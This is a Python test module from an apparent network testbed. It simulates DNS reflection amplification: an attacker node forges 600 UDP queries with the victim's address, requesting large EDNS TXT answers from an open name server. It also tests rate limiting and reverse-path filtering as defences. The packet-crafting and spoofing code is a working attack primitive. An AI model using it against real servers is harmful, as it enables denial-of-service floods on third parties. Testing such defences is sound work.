"""Steps with name servers that answer to somebody who did not ask."""

from __future__ import annotations

import struct
from collections.abc import Collection, Iterator
from functools import partial
from ipaddress import IPv4Address
from typing import TYPE_CHECKING

from testbed import Action, crafted, in_order, name_service, sysctl
from testbed.daemons import Daemon
from testbed.daemons.nsd import Nsd

from .traffic import NEIGHBOUR, VICTIM

if TYPE_CHECKING:
    from testbed import RunningNetwork

OPEN, CAREFUL = "d1", "d2"
"""Name servers: one answers everything, the other limits its answers for each network."""

ATTACKER, ATTACKERS_LAN = "a1", "west-eth0"
DNS_PORT, FORGED_PORT = 53, 5353
NAME = "big.example.org"

QUERIES, QUERIES_PER_S = 600, 600
LIMIT_PER_S = 20
"""Answers to one network and question that the careful server sends."""

ASKS_AFTER_S = 0.5
_TXT, _A, _IN, _OPT, _EDNS_BYTES = 16, 1, 1, 41, 4096
_TEXT = "x" * 250
"""Four of them are a record of 1,004 bytes."""


def servers(net: RunningNetwork, faults: Collection[str]) -> dict[str, list[Daemon]]:
    """Both name servers, with the same zone."""
    limit = 0 if "no-defence" in faults else LIMIT_PER_S
    text = " ".join(f'"{_TEXT}"' for _ in range(4))
    found: dict[str, list[Daemon]] = {}
    for node, most in ((OPEN, 0), (CAREFUL, limit)):
        records = {f"{NAME}.": [f"TXT {text}", "A 192.0.2.1"]}
        zone = name_service.zone(
            "example.org.", ("ns.example.org.", net.address(node)), 60, records
        )
        found[node] = [Nsd({"example.org": zone}, answers_per_s=most)]
    return found


def steps(net: RunningNetwork, faults: Collection[str]) -> dict[str, Action]:
    """Steps by name."""
    kind = _A if "small" in faults else _TXT
    checks = sysctl(
        "west", f"net.ipv4.conf.{ATTACKERS_LAN}.rp_filter", int("no-defence" not in faults)
    )
    return {
        "amplified": lambda _: _ask(net, OPEN, kind),
        "answers-limited": lambda _: _ask(net, CAREFUL, kind, neighbour=True),
        "senders-checked": in_order(checks, lambda _: _ask(net, OPEN, kind)),
    }


def _ask(net: RunningNetwork, server: str, kind: int, *, neighbour: bool = False) -> None:
    """Questions in the victim's name; meanwhile its neighbour has an honest one."""
    asked = []

    def honest() -> None:
        words = ("+bufsize=4096", "+retry=5", "+time=1", NAME, "TXT")
        asked.append(net.start(NEIGHBOUR, "kdig", f"@{net.address(server)}", *words))

    with crafted.sender(net, ATTACKER) as out:
        more = [(ASKS_AFTER_S, honest)] if neighbour else []
        crafted.play_timed(net, *_questions(net, server, kind, out), *more)
    for process in asked:
        process.wait(20)
    net.sleep(1.0)


def _questions(
    net: RunningNetwork, server: str, kind: int, out: crafted.Sender
) -> Iterator[crafted.Timed]:
    source = (IPv4Address(net.address(VICTIM)), FORGED_PORT)
    target = (IPv4Address(net.address(server)), DNS_PORT)
    for number in range(QUERIES):
        packet = crafted.udp_packet(source, target, question(NAME, kind, number), number)
        yield number / QUERIES_PER_S, partial(out.send, packet)


def question(name: str, kind: int, number: int) -> bytes:
    """A question that takes large answers (RFC 1035 §4.1, RFC 6891 §6.1.2)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    head = struct.pack("!6H", number % 65_536, 0, 1, 0, 0, 1)
    option = struct.pack("!BHHIH", 0, _OPT, _EDNS_BYTES, 0, 0)
    return head + labels + struct.pack("!BHH", 0, kind, _IN) + option
